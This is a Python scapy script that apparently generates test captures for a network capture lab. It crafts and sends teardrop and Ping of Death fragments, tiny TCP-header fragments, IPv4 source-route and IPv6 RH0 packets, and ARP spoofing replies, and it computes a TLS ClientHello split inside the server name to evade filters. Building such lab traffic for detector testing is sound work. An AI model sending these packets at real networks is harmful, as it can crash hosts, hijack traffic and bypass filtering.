#!/usr/bin/python3
"""Packets no ordinary tool sends, made with scapy and sent from the
attacker's namespace of the knetscan capture lab, and small pcap chores.

    craft.py source-route     IPv4 LSRR, SSRR and (harmless) Record Route
    craft.py rh0              IPv6 routing header type 0, type 2, HBH+DestOpt
    craft.py teardrop         overlapping IPv4/IPv6 fragments
    craft.py pod              Ping of Death (reassembly past 65,535 bytes)
    craft.py tiny             tiny first fragments cutting the TCP header
    craft.py arp-spoof        ARP replies claiming the server's address
    craft.py hello-split NAME read `openssl s_client -msg` on stdin, print
                              the TCP payload size that cuts its ClientHello
                              in two segments inside the host name NAME
    craft.py retag vlan|qinq IN OUT   add 802.1Q (or 802.1ad + 802.1Q) tags
                              to every frame of an Ethernet capture
    craft.py count PCAP       print the number of packets of a pcap file

Every packet's addresses, identifiers and ports are fixed here, so that
tests/pcap/README can state exactly what each capture holds; pcapfacts.py
checks the captures against the same constants.
"""

import logging
import math
import re
import sys
import time

import labcommon

P = labcommon.load_params()
IFACE = "eth0"

# Identifiers of the crafted datagrams, named in tests/pcap/README.
TEARDROP_IDS = {"overlap": 0x7701, "inside": 0x7702, "same": 0x7704}
TEARDROP_ID6 = 0x77000003
POD_IDS = {"full": 0x7710, "lone": 0x7711}
POD_DATA = 65600
POD_FRAG = 1480
POD_LONE_OFFSET = 65528
POD_LONE_LEN = 100
TINY_PORTS = (80, 443, 22)
TINY_IDS = (0x7720, 0x7721, 0x7722)
TINY_ID6 = 0x77000023
TINY_SPORT = 40300
ARP_UNICAST = 5
ARP_GRATUITOUS = 2


def scapy():
    logging.getLogger("scapy.runtime").setLevel(logging.ERROR)
    import scapy.all as s   # noqa: E402  (slow import, only where needed)
    s.conf.verb = 0
    return s


def send(s, frames, gap=0.02):
    for f in frames:
        s.sendp(f, iface=IFACE, verbose=False)
        time.sleep(gap)


def eth_to(s, mac):
    return s.Ether(src=P["ATTACKER_MAC"], dst=mac)


def source_route():
    s = scapy()
    att, vic, srv = P["ATTACKER_IP4"], P["VICTIM_IP4"], P["SERVER_IP4"]
    frames = []
    # Loose and strict source routes name the victim as the first hop and
    # the server as the final destination (RFC 791, 3.1).
    for i in range(3):
        frames.append(eth_to(s, P["VICTIM_MAC"]) /
                      s.IP(src=att, dst=vic, id=0x5301 + i,
                           options=[s.IPOption_LSRR(routers=[srv])]) /
                      s.ICMP(id=0x6601, seq=i + 1) / b"ksvm-lab lsrr")
    for i in range(3):
        frames.append(eth_to(s, P["VICTIM_MAC"]) /
                      s.IP(src=att, dst=vic, id=0x5311 + i,
                           options=[s.IPOption_SSRR(routers=[srv])]) /
                      s.TCP(sport=40100 + i, dport=80, flags="S", seq=0x66000000 + i))
    # Record Route is an option too, but not a source route.
    for i in range(2):
        frames.append(eth_to(s, P["SERVER_MAC"]) /
                      s.IP(src=att, dst=srv, id=0x5321 + i,
                           options=[s.IPOption_RR(routers=["0.0.0.0"] * 4)]) /
                      s.ICMP(id=0x6602, seq=i + 1) / b"ksvm-lab rr")
    send(s, frames, 0.05)


def rh0():
    s = scapy()
    att, vic, srv = P["ATTACKER_IP6"], P["VICTIM_IP6"], P["SERVER_IP6"]
    frames = []
    for i in range(3):
        frames.append(eth_to(s, P["VICTIM_MAC"]) /
                      s.IPv6(src=att, dst=vic) /
                      s.IPv6ExtHdrRouting(type=0, segleft=1, addresses=[srv]) /
                      s.ICMPv6EchoRequest(id=0x6603, seq=i + 1, data=b"ksvm-lab rh0"))
    # Type 2 (Mobile IPv6, RFC 6275) is allowed; one address, the home
    # address, here the victim's own.
    frames.append(eth_to(s, P["VICTIM_MAC"]) /
                  s.IPv6(src=att, dst=vic) /
                  s.IPv6ExtHdrRouting(type=2, segleft=1, addresses=[vic]) /
                  s.ICMPv6EchoRequest(id=0x6604, seq=1, data=b"ksvm-lab rh2"))
    # A harmless chain: hop-by-hop options, destination options, echo.
    frames.append(eth_to(s, P["SERVER_MAC"]) /
                  s.IPv6(src=att, dst=srv) /
                  s.IPv6ExtHdrHopByHop() / s.IPv6ExtHdrDestOpt() /
                  s.ICMPv6EchoRequest(id=0x6605, seq=1, data=b"ksvm-lab ext"))
    send(s, frames, 0.05)


def udp_bytes(s, src, dst, sport, dport, payload, v6=False):
    ip = s.IPv6(src=src, dst=dst) if v6 else s.IP(src=src, dst=dst)
    return bytes((ip / s.UDP(sport=sport, dport=dport) / payload)[s.UDP])


def frag4(s, mac, src, dst, ident, proto, offset, data, more):
    return (eth_to(s, mac) /
            s.IP(src=src, dst=dst, id=ident, proto=proto, flags="MF" if more else 0,
                 frag=offset // 8) / s.Raw(data))


def frag6(s, mac, src, dst, ident, nh, offset, data, more):
    return (eth_to(s, mac) / s.IPv6(src=src, dst=dst) /
            s.IPv6ExtHdrFragment(nh=nh, offset=offset // 8, m=1 if more else 0, id=ident) /
            s.Raw(data))


def teardrop():
    s = scapy()
    att, srv, mac = P["ATTACKER_IP4"], P["SERVER_IP4"], P["SERVER_MAC"]
    frames = []
    # Overlap with different bytes: [0,40) then [24,64), 16 bytes differ.
    dgram = udp_bytes(s, att, srv, 40201, 7, b"A" * 56)
    frames.append(frag4(s, mac, att, srv, TEARDROP_IDS["overlap"], 17, 0, dgram[:40], True))
    frames.append(frag4(s, mac, att, srv, TEARDROP_IDS["overlap"], 17, 24, b"B" * 40, False))
    # Teardrop proper: the last fragment [24,40) lies inside the first
    # [0,48), so the datagram would end before data already received.
    dgram = udp_bytes(s, att, srv, 40202, 7, b"A" * 40)
    frames.append(frag4(s, mac, att, srv, TEARDROP_IDS["inside"], 17, 0, dgram[:48], True))
    frames.append(frag4(s, mac, att, srv, TEARDROP_IDS["inside"], 17, 24, b"B" * 16, False))
    # IPv6: [0,48) then [32,80) with different bytes (RFC 5722 forbids
    # any overlap).
    att6, srv6 = P["ATTACKER_IP6"], P["SERVER_IP6"]
    dgram = udp_bytes(s, att6, srv6, 40203, 7, b"A" * 72, v6=True)
    frames.append(frag6(s, mac, att6, srv6, TEARDROP_ID6, 17, 0, dgram[:48], True))
    frames.append(frag6(s, mac, att6, srv6, TEARDROP_ID6, 17, 32, b"B" * 48, False))
    # Overlap with the same bytes, as a retransmission would send it.
    dgram = udp_bytes(s, att, srv, 40204, 7, b"A" * 56)
    frames.append(frag4(s, mac, att, srv, TEARDROP_IDS["same"], 17, 0, dgram[:40], True))
    frames.append(frag4(s, mac, att, srv, TEARDROP_IDS["same"], 17, 24, dgram[24:], False))
    send(s, frames, 0.05)


def pod():
    s = scapy()
    att, srv, mac = P["ATTACKER_IP4"], P["SERVER_IP4"], P["SERVER_MAC"]
    # An echo request of 8 + 65,600 bytes: with its 20-byte IP header it
    # is 65,628 bytes, past the 65,535 an IPv4 datagram can be.
    icmp = bytes(s.ICMP(type=8, id=0x6606, seq=1) / (b"P" * POD_DATA))
    frames = []
    for off in range(0, len(icmp), POD_FRAG):
        chunk = icmp[off:off + POD_FRAG]
        frames.append(frag4(s, mac, att, srv, POD_IDS["full"], 1, off, chunk,
                            off + POD_FRAG < len(icmp)))
    # The classic single fragment: offset 65,528, 100 bytes, no MF.
    frames.append(frag4(s, mac, att, srv, POD_IDS["lone"], 1, POD_LONE_OFFSET,
                        b"P" * POD_LONE_LEN, False))
    send(s, frames, 0.002)


def tiny():
    s = scapy()
    att, srv, mac = P["ATTACKER_IP4"], P["SERVER_IP4"], P["SERVER_MAC"]
    frames = []
    # The first fragment holds 8 bytes of the TCP header (ports and
    # sequence number); the flags arrive in the second (RFC 1858).
    for port, ident in zip(TINY_PORTS, TINY_IDS):
        tcp = bytes((s.IP(src=att, dst=srv) /
                     s.TCP(sport=TINY_SPORT, dport=port, flags="S", seq=0x66100000 + port,
                           options=[("MSS", 1460)]))[s.TCP])
        frames.append(frag4(s, mac, att, srv, ident, 6, 0, tcp[:8], True))
        frames.append(frag4(s, mac, att, srv, ident, 6, 8, tcp[8:], False))
    att6, srv6 = P["ATTACKER_IP6"], P["SERVER_IP6"]
    tcp = bytes((s.IPv6(src=att6, dst=srv6) /
                 s.TCP(sport=TINY_SPORT, dport=80, flags="S", seq=0x66200000,
                       options=[("MSS", 1440)]))[s.TCP])
    frames.append(frag6(s, mac, att6, srv6, TINY_ID6, 6, 0, tcp[:8], True))
    frames.append(frag6(s, mac, att6, srv6, TINY_ID6, 6, 8, tcp[8:], False))
    send(s, frames, 0.05)


def arp_spoof():
    s = scapy()
    att_mac, srv = P["ATTACKER_MAC"], P["SERVER_IP4"]
    frames = []
    for _ in range(ARP_UNICAST):
        frames.append(s.Ether(src=att_mac, dst=P["VICTIM_MAC"]) /
                      s.ARP(op=2, hwsrc=att_mac, psrc=srv,
                            hwdst=P["VICTIM_MAC"], pdst=P["VICTIM_IP4"]))
    for _ in range(ARP_GRATUITOUS):
        frames.append(s.Ether(src=att_mac, dst="ff:ff:ff:ff:ff:ff") /
                      s.ARP(op=2, hwsrc=att_mac, psrc=srv,
                            hwdst="ff:ff:ff:ff:ff:ff", pdst=srv))
    send(s, frames, 0.2)


def hello_split(name):
    """From `openssl s_client -msg` output, the payload size per segment
    that sends the ClientHello record in exactly two segments with the cut
    inside the server name."""
    record = b""
    hello = b""
    target = None
    for line in sys.stdin:
        if line.startswith(">>> ") or line.startswith("<<< "):
            if hello:
                break
            target = ("rec" if "RecordHeader" in line and not record else
                      "hello" if "ClientHello" in line else None)
            continue
        if target and re.match(r"^\s+([0-9a-f]{2} ?)+$", line):
            data = bytes.fromhex(line.strip())
            if target == "rec":
                record += data
            else:
                hello += data
    whole = record + hello
    at = whole.find(name.encode())
    if not hello or at < 0:
        sys.exit("craft.py: no ClientHello with %s in the input" % name)
    half = math.ceil(len(whole) / 2)
    payload = max(half, at + len(name) // 2)
    if payload >= at + len(name):
        sys.exit("craft.py: a two-segment cut cannot fall inside the name "
                 "(hello %d bytes, name at %d)" % (len(whole), at))
    print(payload, at, len(whole))


def retag(kind, src, dst):
    linktype, snaplen, _, records = labcommon.read_pcap(src)
    if linktype != 1:
        sys.exit("craft.py: %s is not an Ethernet capture" % src)
    if kind == "vlan":
        tag = b"\x81\x00" + (100).to_bytes(2, "big")
    elif kind == "qinq":
        # 802.1ad service tag 200 outside, 802.1Q customer tag 100 inside,
        # the outer one with priority 3 so that the two differ in more
        # than the VLAN id.
        tag = (b"\x88\xa8" + ((3 << 13) | 200).to_bytes(2, "big") +
               b"\x81\x00" + (100).to_bytes(2, "big"))
    else:
        sys.exit("craft.py: retag vlan|qinq")
    out = [(ts, wire + len(tag), data[:12] + tag + data[12:])
           for ts, caplen, wire, data in records]
    labcommon.write_pcap(dst, 1, max(snaplen, 65535), out)


def main():
    if len(sys.argv) < 2:
        sys.exit(__doc__)
    cmd, args = sys.argv[1], sys.argv[2:]
    simple = {"source-route": source_route, "rh0": rh0, "teardrop": teardrop,
              "pod": pod, "tiny": tiny, "arp-spoof": arp_spoof}
    if cmd in simple and not args:
        simple[cmd]()
    elif cmd == "hello-split" and len(args) == 1:
        hello_split(args[0])
    elif cmd == "retag" and len(args) == 3:
        retag(*args)
    elif cmd == "count" and len(args) == 1:
        print(labcommon.count_pcap(args[0]))
    else:
        sys.exit(__doc__)


if __name__ == "__main__":
    main()
